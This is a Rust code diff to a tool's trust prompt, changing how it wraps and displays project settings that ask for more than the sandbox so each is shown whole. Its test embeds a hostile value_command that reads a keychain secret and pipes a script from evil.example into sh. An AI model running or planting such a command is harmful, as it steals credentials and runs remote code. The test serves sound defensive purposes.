@@ -9,9 +9,10 @@
 //! before it was accepted; settings from the environment and the command line are the operator's own.
 
 mod asked;
+pub(crate) mod hosts;
 mod record;
 
-pub(crate) use asked::{Asked, asked, by_hand, host_by_hand, of_program, of_run, reach_of_run};
+pub(crate) use asked::{Asked, asked, by_hand, host_by_hand, led_to, of_program, of_run, reach_of_run};
 
 use wflo_core::error::{Code, Failure};
 
@@ -24,6 +25,8 @@ use crate::settings::Settings;
 const NOT_TRUSTED: Code = Code(8016);
 /// Accepts whatever is asked for, for one command.
 const VARIABLE: &str = "WFLO_TRUST";
+/// How many columns a setting may have to stand beside what it does; a wider one stands above it.
+const BESIDE: usize = 60;
 /// The most settings that an error names.
 const NAMED: usize = 3;
 
@@ -84,8 +87,8 @@ pub(crate) fn settle(
     let Some(mut terminal) = terminal else { return Err(refusal(settings, &missing)) };
     let printer = context.printer;
     printer.aside(format_args!("{} asks for more than its own sandbox:\n", file_of(settings)));
-    for line in lines(&missing) {
-        printer.aside(format_args!("  {line}"));
+    for line in lines(&missing, printer.width_beside()) {
+        printer.aside(line);
     }
     printer.aside("\nYou are asked once, and again when these settings change.");
     let question = printer.beside().strong("Do you trust this project with them? [y/N]");
@@ -98,12 +101,28 @@ pub(crate) fn settle(
     accept(settings, &missing)
 }
 
-/// What is asked for, a line each: the setting, and what it does.
-pub(crate) fn lines(asked: &[Asked]) -> Vec<String> {
-    let settings: Vec<String> = asked.iter().map(|asked| plain::short(&asked.setting(), 60)).collect();
-    let width = settings.iter().map(|setting| setting.chars().count()).max().unwrap_or(0);
-    let line = |(setting, asked): (&String, &Asked)| format!("{setting:<width$}   {}", asked.does);
-    settings.iter().zip(asked).map(line).collect()
+/// What is asked for, indented: the settings, each whole, and what they do. Nobody accepts what they were not shown.
+pub(crate) fn lines(asked: &[Asked], columns: Option<usize>) -> Vec<String> {
+    let settings: Vec<String> = asked.iter().map(|asked| plain::line(&asked.setting())).collect();
+    let wide = |setting: &&String| console::measure_text_width(setting) > BESIDE;
+    let beside = settings.iter().filter(|setting| !wide(setting));
+    let width = beside.map(|setting| console::measure_text_width(setting)).max().unwrap_or(0);
+    let mut lines = Vec::new();
+    for (setting, asked) in settings.iter().zip(asked) {
+        if wide(&setting) {
+            // The rest of a setting is further in, so that it cannot look like another one.
+            let parts = plain::wrapped(setting, columns.unwrap_or(usize::MAX).saturating_sub(6).max(20));
+            let indented = parts.iter().enumerate().map(|(at, part)| match at {
+                0 => format!("  {part}"),
+                _ => format!("      {part}"),
+            });
+            lines.extend(indented);
+            lines.push(format!("  {:width$}   {}", "", asked.does));
+        } else {
+            lines.push(format!("  {}   {}", plain::padded(setting, width), asked.does));
+        }
+    }
+    lines
 }
 
 fn file_of(settings: &Settings) -> String {
@@ -119,14 +138,41 @@ fn declined(settings: &Settings) -> CommandError {
 }
 
 fn refusal(settings: &Settings, missing: &[Asked]) -> CommandError {
-    let mut named: Vec<String> =
-        missing.iter().take(NAMED).map(|asked| plain::short(&asked.setting(), 60)).collect();
+    let mut named: Vec<String> = missing.iter().take(NAMED).map(|asked| asked.brief(60)).collect();
     if missing.len() > NAMED {
         named.push(format!("{} more", missing.len() - NAMED));
     }
     let message = format!("{} is not trusted with {}", file_of(settings), named.join(", "));
-    let failure = Failure::new(NOT_TRUSTED, message).with_hint(
-        "look at what they do, and accept them with `wflo trust`; WFLO_TRUST=1 accepts them for one command",
-    );
-    CommandError::usage(vec![failure])
+    // What a run or a program of the project has beside the settings is answered where it is asked.
+    let hint = match missing.iter().all(|asked| asked.key.starts_with("run.")) {
+        true => "run it at a terminal to be asked; WFLO_TRUST=1 accepts this for one command",
+        false => {
+            "look at what they do, and accept them with `wflo trust`; WFLO_TRUST=1 accepts them for one command"
+        }
+    };
+    CommandError::usage(vec![Failure::new(NOT_TRUSTED, message).with_hint(hint)])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_accepted_is_shown_to_its_end() {
+        let hidden =
+            "security find-generic-password -s api-key -a me -w; curl -s https://evil.example/x | sh";
+        let text = format!("[secrets.s]\nhosts = [\"a.example\"]\nvalue_command = \"{hidden}\"\n");
+        let node = crate::document::toml::parse("wflo.toml", &text).unwrap();
+        let asked = asked(&node, std::path::Path::new("/project"));
+        let whole = lines(&asked, None);
+        assert!(whole.iter().any(|line| line.contains(hidden)), "{whole:?}");
+        let wrapped = lines(&asked, Some(40));
+        let joined: String = wrapped.iter().map(|line| line.trim_start_matches(' ')).collect();
+        assert!(joined.replace(' ', "").contains(&hidden.replace(' ', "")), "{wrapped:?}");
+        assert!(wrapped.iter().all(|line| console::measure_text_width(line) <= 70), "{wrapped:?}");
+        assert!(wrapped[0].ends_with("gets the secret's value"), "{wrapped:?}");
+        let rest = wrapped.iter().skip(2).take_while(|line| !line.ends_with("every sandbox"));
+        let rest: Vec<_> = rest.collect();
+        assert!(rest.len() > 1 && rest.iter().all(|line| line.starts_with("      ")), "{wrapped:?}");
+    }
 }
